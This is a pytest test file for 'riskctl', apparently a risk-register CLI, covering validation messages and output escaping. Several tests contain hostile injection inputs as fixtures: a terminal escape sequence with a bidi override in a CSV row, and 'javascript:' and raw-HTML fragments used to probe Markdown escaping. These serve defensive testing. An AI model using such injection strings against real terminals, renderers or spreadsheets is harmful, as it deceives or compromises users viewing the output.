    case = planted[TERMINAL["osc"]]
    commands = [
        ["lint", "--now", FROZEN_NOW],
        ["score", "--now", FROZEN_NOW],
        ["log", "R-001"],
        ["diff", case.first, case.second],
        ["report", "risk", "R-001", "--now", FROZEN_NOW],
    ]
    started = time.monotonic()
    processes = [
        subprocess.Popen(
            [sys.executable, "-m", "riskctl", *command, str(case.register)],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1"},
        )
        for command in commands
    ]
    outputs = [process.communicate(timeout=TIME_BOUND) for process in processes]
    for command, process, (stdout, stderr) in zip(commands, processes, outputs, strict=True):
        assert process.returncode in (0, 1), (command, stderr)
        assert "Traceback" not in stdout + stderr
        assert is_visible(stdout + stderr, keep_newlines=True), command
        if command[0] != "lint":
            assert "click me" in stdout, command
    assert time.monotonic() - started < TIME_BOUND


# --- 4. validation messages say what is expected ------------------------------------------------

BASE_FILES = {
    path.relative_to(BASE_REGISTER).as_posix(): path.read_bytes()
    for path in sorted(BASE_REGISTER.rglob("*.yaml"))
}


def _replaced(file: str, old: str, new: str) -> dict[str, bytes]:
    text = BASE_FILES[file].decode()
    assert old in text, (file, old)
    return {**BASE_FILES, file: text.replace(old, new, 1).encode()}


@pytest.mark.parametrize(
    ("file", "old", "new", "expected"),
    [
        (
            "controls/C-001.yaml",
            "effectiveness: {design: effective, operating: effective}",
            "effectiveness: effective",
            "9:16: effectiveness: expected a mapping with keys: design, operating, "
            "found 'effective'",
        ),
        (
            "incidents/INC-2026-001.yaml",
            "barrier_that_held:",
            "root_cause: {category: process, whys: [because]}\nbarrier_that_held:",
            "8:40: root_cause.whys.0: expected a mapping with keys: why, evidence, verified "
            "(required: why), found 'because'",
        ),
        (
            "kris/KRI-001.yaml",
            "thresholds: {amber: 40, red: 60}",
            "thresholds: 40",
            "7:13: thresholds: expected a mapping with keys: amber, red (required: amber, red), "
            "found 40",
        ),
        (
            "launches/LAUNCH-001.yaml",
            "monitoring:\n  - {kri: KRI-001, until: 2027-03-31}",
            "monitoring: [KRI-001]",
            "15:14: monitoring.0: expected a mapping with keys: kri, until, reviewed "
            "(required: kri, until), found 'KRI-001'",
        ),
        (
            "risks/R-001.yaml",
            "inherent: {likelihood: 4, impact: 4}",
            "inherent: 16",
            "5:11: inherent: expected a mapping with keys: likelihood, impact "
            "(required: likelihood, impact), found 16",
        ),
        (
            "acceptances/ACC-001.yaml",
            "decided: 2026-10-01",
            "decided: 2026-13-01",
            "4:10: decided: expected a date as YYYY-MM-DD, e.g. 2026-11-27, found '2026-13-01'",
        ),
        (
            "acceptances/ACC-001.yaml",
            "decided: 2026-10-01",
            "decided: 20261001",
            "4:10: decided: expected a date as YYYY-MM-DD, e.g. 2026-11-27, found 20261001",
        ),
        (
            "risks/R-001.yaml",
            "inherent: {likelihood: 4, impact: 4}",
            "inherent: {likelihood: 6, impact: 4}",
            "5:24: inherent.likelihood: input should be less than or equal to 5, found 6",
        ),
        (
            "controls/C-001.yaml",
            "nature: preventive",
            "nature: sometimes",
            "5:9: nature: input should be 'preventive', 'detective' or 'corrective', "
            "found 'sometimes'",
        ),
        (
            "risks/R-001.yaml",
            "title: Card testing through gift-coin purchases",
            'title: ""',
            "2:8: title: expected text, not an empty string, found ''",
        ),
        (
            "incidents/INC-2026-001.yaml",
            "barrier_that_held:",
            "root_cause: {category: process, whys: [{why: x, verified: maybe}]}\n"
            "barrier_that_held:",
            "8:59: root_cause.whys.0.verified: input should be a valid boolean: true or false, "
            "found 'maybe'",
        ),
    ],
    ids=[
        "nested-mapping", "nested-in-list", "thresholds", "list-of-mappings", "rating-pair",
        "bad-date", "number-as-date", "above-range", "not-allowed-value", "empty-text",
        "not-a-boolean",
    ],
)  # fmt: skip
def test_validation_messages_say_what_is_expected(
    file: str, old: str, new: str, expected: str
) -> None:
    result = lint(Sources(label="register", files=_replaced(file, old, new)), today=NOW)
    found = [
        f"{finding.line}:{finding.col}: {finding.message}"
        for finding in result.findings
        if finding.file == f"register/{file}" and finding.code == "RK007"
    ]
    assert found == [expected]


def test_an_invalid_configuration_names_the_keys_of_a_category() -> None:
    files = _replaced(
        "riskctl.yaml",
        "  - {id: account-security, name: Account security, appetite: low}",
        "  - account-security",
    )
    with pytest.raises(RiskctlError) as raised:
        lint(Sources(label="register", files=files), today=NOW)
    assert "categories.1: expected a mapping with keys: id, name, appetite" in str(raised.value)


def _models(model: type[BaseModel]) -> Iterator[type[BaseModel]]:
    seen: set[type[BaseModel]] = set()
    pending = [model]
    while pending:
        current = pending.pop()
        if current not in seen:
            seen.add(current)
            yield current
            for info in current.model_fields.values():
                pending.extend(_nested(info.annotation))


def _nested(annotation: object) -> Iterator[type[BaseModel]]:
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        yield annotation
    for argument in getattr(annotation, "__args__", ()):
        yield from _nested(argument)
    origin = getattr(annotation, "__origin__", None)
    if origin is not None and getattr(annotation, "__metadata__", None) is not None:
        yield from _nested(origin)


ROOT_MODELS = [kind.model for kind in KIND_BY_FOLDER.values()] + [Config]
MODEL_NAMES = sorted({model.__name__ for root in ROOT_MODELS for model in _models(root)})
WRONG_VALUES: list[object] = ["x", 7, -1, 2.5, True, [], {}, ["x"], {"zz": 1}, "2026-13-45"]


def _paths(data: object, path: tuple[object, ...] = ()) -> Iterator[tuple[object, ...]]:
    if isinstance(data, dict):
        for key, value in data.items():
            yield (*path, key)
            yield from _paths(value, (*path, key))
    elif isinstance(data, list) and data:
        yield (*path, 0)
        yield from _paths(data[0], (*path, 0))


@pytest.mark.parametrize("folder", sorted(KIND_BY_FOLDER))
def test_no_validation_message_names_a_model_class(folder: str) -> None:
    """Every field of a shipped entity, set to each wrong kind of value: the message states
    what is expected and never leaks a class name such as `Why`."""
    # the shipped file with the most text has the most fields: one is enough
    files = sorted((ROOT / "register" / folder).glob("*.yaml"), key=lambda p: -p.stat().st_size)
    if folder == "frameworks" and not files:  # the register uses the shipped catalogue
        files = sorted((ROOT / "riskctl" / "data" / "frameworks").glob("*.yaml"))
    sample = files[:1]
    model = KIND_BY_FOLDER[folder].model
    checked = 0
    for source in sample:
        data = yaml.safe_load(source.read_text(encoding="utf-8"))
        for path in _paths(data):
            for wrong in WRONG_VALUES:
                changed = copy.deepcopy(data)
                target = changed
                for element in path[:-1]:
                    target = target[element]
                target[path[-1]] = wrong
                _, hits = validate(f"{folder}/x.yaml", changed, model)
                for hit in hits:
                    checked += 1
                    words = set(re.findall(r"\w+", hit.message.split(", found ")[0]))
                    assert not words & set(MODEL_NAMES), hit.message
                    if hit.code == "RK007":
                        assert re.search(r"expected|should be|not an? \w+ id", hit.message), (
                            hit.message
                        )
    assert checked > 20  # not vacuous


def test_a_hostile_csv_row_for_xmr_is_quoted_escaped(tmp_path: Path) -> None:
    series = tmp_path / "series.csv"
    series.write_text("date,value\n2026-01-05,1\n2026-01-12,\x1b]0;pwned\x07\u202e9\n")
    before = snapshot(tmp_path)
    code, stdout, stderr = run("kri", "xmr", "--csv", str(series))
    assert code == 3
    assert stdout == ""
    assert stderr.startswith("riskctl: error: ")
    assert is_visible(stderr, keep_newlines=True), repr(stderr)
    assert "\\x1b]0;pwned\\x07\\u202e9" in stderr
    assert snapshot(tmp_path) == before


# --- properties ----------------------------------------------------------------------------------

#: Markdown's and HTML's punctuation, URL pieces and line breaks, mixed with ordinary text.
MARKDOWN_ALPHABET = st.one_of(
    st.sampled_from(list("[]()!<>&#;:/@.`|\\-+=~*_ \n\r\tahpstwx019")),
    st.sampled_from(
        ["https://", "www.", "javascript:", "<img ", "&amp;", "```", "%%", "@x", "    ", "\n\n"]
    ),
    st.characters(codec="utf-8"),
)


@settings(max_examples=150, deadline=None)
@given(parts=st.lists(MARKDOWN_ALPHABET, max_size=30))
@example(parts=["-", "@", "-"])  # an @ before punctuation was left live (an email autolink)
def test_any_text_in_a_cell_or_paragraph_stays_text(parts: list[str]) -> None:
    text = "".join(parts)
    cell = "| x |\n|---|\n| " + markdown_cell(text) + " |\n"
    paragraph = "Intro.\n\n" + markdown_text(text) + "\n"
    assert live_markup(cell) == []
    assert live_markup(paragraph) == []
    assert structure(cell) == structure("| x |\n|---|\n| a |\n")
    assert {"heading_open", "bullet_list_open", "ordered_list_open", "blockquote_open",
            "fence", "code_block", "table_open", "hr", "html_block"} & set(
        structure(paragraph)) == set()  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(text=st.text(st.characters(codec="utf-8")))
def test_any_text_is_visible_after_escaping(text: str) -> None:
    assert is_visible(visible(text))
    assert "\n" not in visible(text)
    assert is_visible(visible(text, keep_newlines=True), keep_newlines=True)
    assert display_width(visible(text)) >= 0
    cell = csv_cell(text)
    assert isinstance(cell, str) and not cell.startswith(FORMULA_STARTS)
